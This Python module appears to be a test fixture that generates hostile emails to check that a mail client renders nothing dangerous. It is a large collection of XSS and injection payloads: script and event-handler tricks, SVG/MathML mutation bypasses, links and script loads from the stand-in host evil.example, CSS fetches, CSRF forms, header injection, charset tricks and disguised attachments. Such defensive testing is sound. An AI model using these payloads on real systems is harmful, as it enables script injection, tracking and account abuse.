"""Mails that want something to happen when they are read. Nothing may.

Each would run `RUN`, which says so in the console and opens a dialog, or ask for `AWAY`, or lead
the page elsewhere. They are of three sorts: HTML, mails whose trick lies in how they are put
together, and mails whose trick lies in plain words and names.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from email.header import Header

RUN = "console.log('hostile ran');alert(1)"
AWAY = "https://evil.example/hostile"
HOME = "/hostile-own"
"""A path of our own site that only a hostile mail asks for."""

_SCRIPT = f"<script>{RUN}</script>"
_B64 = base64.b64encode(_SCRIPT.encode()).decode()
_EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "onbegin")
_NESTED = "<div>" * 2500 + _SCRIPT + "</div>" * 2500
_ODD = "".join(f"<b id={n}>" for n in range(400)) + "<p>x" * 3000
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script></svg>"

SCRIPTS = (
    _SCRIPT,
    f"<SCRIPT/XSS>{RUN}</SCRIPT>",
    f"<script src={AWAY}.js></script>",
    "<script src=//evil.example/hostile.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN};//<</script>",
    f"<script\x0c>{RUN}</script>",
    f"<script>/*</script><script>*/{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--[if gte mso 9]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<script type=module>import '{AWAY}.mjs'</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"</title></textarea></style></noscript>{_SCRIPT}",
    f"<plaintext></plaintext>{_SCRIPT}",
    f'<xmp><p title="</xmp><script>{RUN}</script>"></xmp>',
    f'<img src=x onerror="{RUN}">',
    f"<img src=x:x onerror={RUN.replace(' ', '/**/')}//>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src='x' x='`' onerror='{RUN}'>",
    f'<image src=x onerror="{RUN}">',
    f'<img src="data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()}">',
    f'<body onload="{RUN}" onpageshow="{RUN}">text',
    f'<input autofocus onfocus="{RUN}">',
    f'<details open ontoggle="{RUN}">text</details>',
    f'<video src=x onerror="{RUN}"></video><audio src=x onerror="{RUN}"></audio>',
    f'<video><source onerror="{RUN}"></video>',
    f'<marquee onstart="{RUN}">text</marquee>',
    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart=\"{RUN}\">x</p>",
    f'<xss id=x tabindex=1 onfocus="{RUN}" autofocus>x</xss>',
    *(f"<p {name}=\"{RUN}\" {name.upper()}='{RUN}'>text {name}</p>" for name in _EVENTS),
)
FOREIGN = (
    f'<svg onload="{RUN}"></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:text/javascript,{RUN.replace(' ', '')} /></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>x</text></a></svg>',
    f'<svg><use href="{AWAY}.svg#x"/></svg>',
    f'<svg><image href="{AWAY}.png"/></svg>',
    f'<svg><foreignObject><iframe srcdoc="{_SCRIPT}"></iframe></foreignObject></svg>',
    f'<svg><style><img src=x onerror="{RUN}"></style></svg>',
    f'<svg></p><style><g title="</style><img src onerror={RUN}>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<math><mi><mglyph></mglyph><mtext><style><img src=x onerror="{RUN}"></style></mtext></math>',
    f'<math href="javascript:{RUN}">x</math>',
    f'<math><annotation-xml encoding="text/html">{_SCRIPT}</annotation-xml></math>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<template><img src=x onerror="{RUN}"></template>',
    f"<template shadowrootmode=open>{_SCRIPT}</template>",
    f'<div><template shadowrootmode=open><img src=x onerror="{RUN}"></template></div>',
    f'<select><option><style></option></select><img src=x onerror="{RUN}"></style>',
    f'<table><td><style></table><img src=x onerror="{RUN}"></style>',
    f'<p id="</p><img src=x onerror={RUN}>">x',
    f'<a title="--><img src=x onerror={RUN}>">x</a><!--',
    f"<listing>&lt;img src=1 onerror={RUN}&gt;</listing>",
    f"<iframe></iframe><img title='</iframe><img src=x onerror={RUN}>'>",
    f'<noembed><img title="</noembed><img src=x onerror={RUN}>"></noembed>',
    _NESTED,
    _ODD + _SCRIPT,
    "<table><tr><td>" * 900 + _SCRIPT,
)
LINKS = (
    f'<a href="javascript:{RUN}" autofocus>x</a>',
    f'<a href="java\tscript:{RUN}">x</a><a href=" &#14; javascript:{RUN}">y</a>',
    f'<a href="&#106;&#97;vascript&colon;{RUN}">x</a>',
    f'<a href="data:text/html;base64,{_B64}">x</a>',
    f"<a href=\"vbscript:msgbox(1)\">x</a><a href='blob:{AWAY}'>y</a>",
    f'<a href="{AWAY}" ping="{AWAY}-ping" target=_top>x</a>',
    f'<a href={AWAY} onclick="{RUN}"><img src={AWAY}.png></a>',
    f'<area shape=default href="javascript:{RUN}"><map name=x><area href={AWAY}></map>',
    f'<base href="{AWAY}/"><img src=relative.png><a href=relative>x</a>',
    f"<base target=_top><a href={AWAY}>x</a>",
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f'<meta http-equiv=refresh content="0;url=data:text/html;base64,{_B64}">',
    f'<meta http-equiv=refresh content="0; url=javascript:{RUN}">',
    '<meta http-equiv=Content-Security-Policy content="default-src *">' + _SCRIPT,
    f'<meta http-equiv=Set-Cookie content="triage=x"><img src={AWAY}>',
    f"<form action={AWAY} id=f><input name=q value=1></form><script>f.submit()</script>",
    f'<form><button formaction="javascript:{RUN}" autofocus>x</button></form>',
    f'<isindex action="javascript:{RUN}" type=image>',
    "<form method=post action=/logout/everywhere><button>log in again</button></form>",
    f"<dialog open><form method=dialog><input type=image src={AWAY}.png></form></dialog>",
)
FETCHED = (
    f'<img src={AWAY}.png width=1 height=1><img srcset="{AWAY}-2.png 2x">',
    "<img src=//evil.example/hostile.png><img src=\\\\evil.example\\hostile.png>",
    '<img src="https:/evil.example/hostile"><img src="http:evil.example/hostile">',
    f"<img src={HOME}/logout><img src=\"../../../..{HOME}\"><img src='?x=hostile-own'>",
    f"<picture><source srcset={AWAY}.webp><img src={AWAY}.png></picture>",
    f"<table background={AWAY}.png><tr><td background={AWAY}-td.png>x</table>",
    f"<body background={AWAY}.png bgcolor=red>x</body>",
    f'<div style="background:url({AWAY}.png)">x</div>',
    f'<div style="background:u\\72l({AWAY}.png)">x</div>',
    f"<div style=\"background-image:image-set('{AWAY}.png' 1x)\">x</div>",
    f"<div style='background:url(&quot;{AWAY}.png&quot;);list-style:url({AWAY}-li.png)'>x</div>",
    f'<p style="width:expression({RUN});-moz-binding:url({AWAY}.xml#x);behavior:url(#x)">x</p>',
    f'<p style="cursor:url({AWAY}.cur),auto;content:url({AWAY}.png);border-image:url({AWAY})">x',
    f"<style>@import '{AWAY}.css';@import url({AWAY}-2.css);</style>x",
    f"<style>@font-face{{font-family:x;src:url({AWAY}.woff2)}}p{{font-family:x}}</style><p>x",
    f"<style>p{{background:url({AWAY}-sheet.png)}}</style><p>x",
    f"<style>p::before{{content:url('{AWAY}-before.png')}}</style><p>x",
    f"<style>p{{background:\\75\\72\\6c({AWAY}-esc.png)}}</style><p>x",
    f"<style>p{{background:url(/* */{AWAY}-c.png)}}/*</style><style>*/p{{color:red}}</style><p>x",
    f'<style></style/><img src=x onerror="{RUN}"><style>p{{}}</style>',
    f"<style>p{{color:red}}<!-- </style><script>{RUN}</script> -->",
    f"<link rel=stylesheet href={AWAY}.css><link rel=preload as=image href={AWAY}.png>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>",
    f"<link rel=prefetch href={AWAY}><link rel=icon href={AWAY}><link rel=prerender href={AWAY}>",
    f'<iframe src={AWAY}></iframe><iframe src="javascript:{RUN}"></iframe>',
    f"<iframe srcdoc=\"{_SCRIPT}\"></iframe><iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'>",
    f'<iframe src="data:text/html;base64,{_B64}"></iframe><frameset><frame src={AWAY}></frameset>',
    f'<object data={AWAY}.swf></object><embed src="{AWAY}.pdf"><applet code={AWAY}></applet>',
    f'<object data="data:text/html;base64,{_B64}"><param name=x value={AWAY}></object>',
    f"<object type=text/html data=javascript:{RUN.replace(' ', '')}></object>",
    f"<video poster={AWAY}.png src={AWAY}.mp4 autoplay></video><track src={AWAY}.vtt>",
    f"<audio src={AWAY}.mp3 autoplay></audio><bgsound src={AWAY}.mid>",
    f"<portal src={AWAY}></portal><fencedframe src={AWAY}></fencedframe>",
    f'<q cite={AWAY}>x</q><blockquote cite="javascript:{RUN}">x</blockquote>',
    f'<html manifest={AWAY}.appcache><p>x</html><?xml-stylesheet href="{AWAY}.xsl"?>',
    f"<div style='position:fixed;inset:0;z-index:9;background:red'><a href={AWAY}>log in</a></div>",
    "<a name=x id=pane><img name=cookie id=thread></a><form id=main><input name=action></form>",
    f'<div hx-get="{HOME}" hx-trigger=load data-hx-get="{HOME}" data-hx-trigger=load>x</div>',
    f"<a class=row href={AWAY} data-does=send id=composer>x</a><script src=/static/x/a.js>",
)
HTML = (*SCRIPTS, *FOREIGN, *LINKS, *FETCHED)

WORDS = (
    _SCRIPT,
    f'<img src={AWAY}.png onerror="{RUN}">',
    f"\"><svg onload={RUN}>'><b x='",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    f"see javascript:{RUN} and data:text/html;base64,{_B64} and vbscript:x",
    f"https://bank.example/ ({AWAY}) https://bank.example@evil.example/hostile",
    f"{AWAY}\"onmouseover=\"{RUN} {AWAY}'onmouseover='{RUN} {AWAY}`{RUN}`",
    f'{AWAY}/<script>{RUN}</script> <{AWAY}?"><script>{RUN}</script>>',
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e \ufeff \u061c",
    "\x1b[31mred\x1b[0m \x07 \x08 \x0b \x7f \x85 \u2028 \u2029",
    "Zalgo " + "a" + "\u0301" * 5000,
    "x" * 200_000,
    f"<!doctype html><html><body>{_SCRIPT}<p>labelled plain</p></body></html>",
    f"<p>Dear all,<br>please look<br>{_SCRIPT}<br>thanks</p><p>x</p>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"begin 644 <img src=x onerror={RUN}>.txt\nM{'A' * 60}\n`\nend\n{_SCRIPT}",
)
NAMES = (
    f"<script>{RUN}</script>",
    f'"><img src={AWAY} onerror={RUN}>',
    f"'\"--></style></title><svg onload={RUN}>",
    "\u202emoc.knab\u202c support",
    f"javascript:{RUN}",
    "{{ ''.__class__ }}",
)


def mails() -> Iterator[bytes]:
    """Yield every hostile mail, each with a Message-ID of its own, all of one sender's."""
    for number, body in enumerate((*_html(), *_words(), *_named(), *_built())):
        head = f"Message-ID: <hostile-{number}@example.net>\r\nTo: support@northwind.example\r\n"
        sender = b"" if b"From: " in body.partition(b"\r\n\r\n")[0] else b"From: jo@example.net\r\n"
        yield head.encode() + sender + body


def _html() -> Iterator[bytes]:
    for body in HTML:
        yield _part("text/html; charset=utf-8", f"<p>words</p>{body}")


def _words() -> Iterator[bytes]:
    for body in WORDS:
        yield _part("text/plain; charset=utf-8", body)


def _named() -> Iterator[bytes]:
    """Tricks in names: of senders, subjects and files."""
    for name in NAMES:
        told = Header(name, "utf-8").encode()
        yield f"From: {told} <jo@example.net>\r\nSubject: {told}\r\n\r\nwords\r\n".encode()
        quoted = base64.b64encode(name.encode()).decode()
        file = f'Content-Type: image/png; name="=?utf-8?b?{quoted}?="\r\n'
        yield _mixed(f"{file}Content-Disposition: attachment\r\n\r\n\x89PNG not one".encode())
    yield b"Subject: x\r\n\tonload=alert(1)\r\nX-Evil: \xff\xfe<script>alert(1)</script>\r\n\r\nx"
    yield b"Subject: =?utf-8?q?x=0D=0AContent-Type:_text/html=0D=0A=0D=0A<script>?=\r\n\r\nwords"
    yield f'Reply-To: "{_SCRIPT}" <x@evil.example>\r\nCc: <{_SCRIPT}>\r\n\r\nx'.encode()


def _built() -> Iterator[bytes]:
    """Tricks in how a mail is put together: charsets, encodings, nested and mislabelled parts."""
    page = f"<p>words</p>{_SCRIPT}<img src={AWAY}.png>"
    yield _part("text/html; charset=utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
    yield b"Content-Type: text/html; charset=utf-16\r\n\r\n" + page.encode("utf-16")
    yield b"Content-Type: text/html; charset=utf-8\r\n\r\n\xc0\xbcscript\xc0\xbealert(1)"
    yield b'Content-Type: text/html; charset=shift_jis\r\n\r\n<img alt="\x81"src=x onerror=alert()>'
    yield b'Content-Type: text/html; charset=iso-2022-jp\r\n\r\n<img alt="\x1b$B" onerror=alert(1)>'
    yield b'Content-Type: text/html; charset=x-user"><script>alert(1)</script>\r\n\r\nwords'
    yield _part("text/html; charset=us-ascii", page.replace("<", "\u00bc"))
    yield b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n" + _B64.encode()
    quoted = b"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
    yield quoted + b"=3Cscript=3Ealert(1)=3C/script=3E"
    yield _part(
        "application/xhtml+xml", f"<html xmlns='http://www.w3.org/1999/xhtml'>{page}</html>"
    )
    yield _part("image/svg+xml", _SVG)
    yield _part(
        "text/xml",
        f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    )
    yield _part("multipart/alternative", page)
    yield _part("message/rfc822", f"Content-Type: text/html\r\n\r\n{page}")
    for kind, name, data in (
        ("image/svg+xml", "photo.svg", _SVG.encode()),
        ("image/png", "photo.png", _SVG.encode()),
        ("image/png", "page.png", page.encode()),
        ("image/gif", "both.gif", b"GIF89a/*\x10\x00\x10\x00*/=1;" + RUN.encode()),
        ("text/html", "page.html", page.encode()),
        ("application/pdf", "x.pdf", b"%PDF-1.7 /OpenAction /JavaScript (" + RUN.encode() + b")"),
        ('text/html; name="a.png"', "../../../etc/x\r\nSet-Cookie: a=b", page.encode()),
        ("application/octet-stream", "photo\u202egnp.exe", b"MZ" + page.encode()),
    ):
        told = Header(name, "utf-8").encode().replace("\r\n", "")
        lines = f'Content-Type: {kind}\r\nContent-Disposition: inline; filename="{told}"\r\n'
        ids = "Content-ID: <one>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        shown = (
            f"Content-Type: text/html\r\n\r\n<p>words<img src=cid:one><img src='CID:one#{_SCRIPT}'>"
        )
        yield _mixed(shown.encode(), (lines + ids).encode() + base64.encodebytes(data))


def _part(kind: str, body: str) -> bytes:
    return f"Content-Type: {kind}\r\nMIME-Version: 1.0\r\n\r\n{body}\r\n".encode()


def _mixed(*parts: bytes) -> bytes:
    words = b"Content-Type: text/plain\r\n\r\nwords\r\n"
    inside = b"".join(b"--b\r\n" + part + b"\r\n" for part in (words, *parts))
    return b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + inside + b"--b--\r\n"
